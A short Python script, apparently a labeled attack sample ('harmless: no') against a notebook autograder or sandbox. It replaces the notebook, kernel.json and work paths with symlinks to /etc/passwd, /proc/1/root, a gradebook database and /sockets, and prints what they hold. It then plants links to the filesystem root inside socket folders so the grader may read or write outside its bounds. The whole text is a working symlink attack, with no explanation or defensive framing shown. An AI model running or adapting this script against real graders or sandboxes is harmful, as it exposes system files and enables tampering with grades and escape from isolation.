# attack: symbolic links to the course and the system stand where the grader may write
# harmless: no
import os

for name in ("em_gmm_1d.ipynb", "link", "../link", "kernel.json", "../work"):
    for target in ("/etc/passwd", "/proc/1/root", "../../../gradebook.db", "/sockets"):
        try:
            if os.path.lexists(name):
                os.rename(name, f"{name}.{os.urandom(4).hex()}")
            os.symlink(target, name)
            print(name, target, os.listdir(name) if os.path.isdir(name) else open(name).read())
        except OSError as error:
            print(name, target, error)
for folder in ("/sockets", *(f"/sockets/{name}" for name in os.listdir("/sockets"))):
    for name in ("files", "kernel-1", "next"):
        try:
            os.symlink("/", f"{folder}/{name}")
            print("linked", folder, name)
        except OSError as error:
            print(error)
